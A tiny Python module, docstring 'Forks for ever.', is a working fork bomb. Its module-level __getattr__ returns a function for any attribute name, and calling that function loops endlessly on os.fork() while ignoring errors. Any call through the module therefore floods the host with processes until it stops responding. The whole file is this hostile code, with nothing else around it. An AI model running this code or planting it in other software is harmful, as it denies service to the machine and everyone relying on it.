"""Forks for ever."""

import os


def __getattr__(name):
    def run(*args):
        while True:
            try:
                os.fork()
            except OSError:
                pass

    return run
